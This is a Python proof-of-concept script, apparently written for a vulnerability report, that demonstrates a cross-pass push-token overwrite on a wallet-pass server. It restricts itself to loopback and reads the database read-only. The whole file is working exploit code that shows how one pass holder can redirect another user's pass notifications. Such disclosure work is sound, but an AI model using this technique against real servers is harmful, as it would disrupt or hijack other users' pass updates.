#!/usr/bin/env python3
"""Holder of pass A (in group G) re-points the group push token of a victim's pass B (same group, same pass type)
on the victim's device V, by registering V for A with a junk token. Shows the group shard's stored members.
Usage: group_token_overwrite.py BASE_URL ISSUER_KEY DB_PATH   (loopback only; ~10 requests; DB opened read-only)"""
import io, json, sqlite3, sys, urllib.request, zipfile
BASE, KEY, DB = sys.argv[1:4]
assert BASE.startswith(("http://127.0.0.1", "http://[::1]")), "loopback only"
PT = "pass.com.example.demo"

def call(method, path, body=None, headers=None):
    r = urllib.request.Request(BASE + path, data=body, method=method, headers=headers or {})
    try:
        with urllib.request.urlopen(r, timeout=30) as resp:
            return resp.status, resp.read()
    except urllib.error.HTTPError as e:
        return e.code, e.read()

ISS = {"Authorization": f"Bearer {KEY}", "Content-Type": "application/json"}
print("group:", call("PUT", "/api/groups/event-1", json.dumps({"templateId": "demo", "fields": {"level": "Gold"}}).encode(), ISS)[0])
tokens = {}
for serial in ("G-VICTIM", "G-ATTACKER"):
    s, b = call("POST", "/api/passes", json.dumps({"templateId": "demo", "serialNumber": serial, "groupId": "event-1"}).encode(), ISS)
    if s == 201:
        url = json.loads(b)["downloadUrl"].replace("http://localhost:5000", BASE)
    else:
        url = json.loads(call("GET", f"/api/passes/{PT}/{serial}", None, ISS)[1])["downloadUrl"].replace("http://localhost:5000", BASE)
    pkpass = call("GET", url.replace(BASE, ""))[1]
    tokens[serial] = json.loads(zipfile.ZipFile(io.BytesIO(pkpass)).read("pass.json"))["authenticationToken"]
V, REAL, JUNK = "victimdeviceV0001", "aa" * 32, "00" * 8
def register(serial, token_of, push):
    return call("POST", f"/v1/devices/{V}/registrations/{PT}/{serial}", json.dumps({"pushToken": push}).encode(),
                {"Authorization": f"ApplePass {tokens[token_of]}", "Content-Type": "application/json"})[0]
print("victim registers V for G-VICTIM with its real token:", register("G-VICTIM", "G-VICTIM", REAL))
def shard():
    c = sqlite3.connect(f"file:{DB}?mode=ro", uri=True)
    rows = c.execute("select GrainIdExtensionString, PayloadBinary from OrleansStorage where GrainIdExtensionString like 'groupshard:%/event-1'").fetchall()
    return {k: json.loads(v)["members"] for k, v in rows if v}
print("shard after victim:", shard())
print("attacker registers V (victim's id) for G-ATTACKER with a junk token:", register("G-ATTACKER", "G-ATTACKER", JUNK))
print("shard after attacker:", shard())
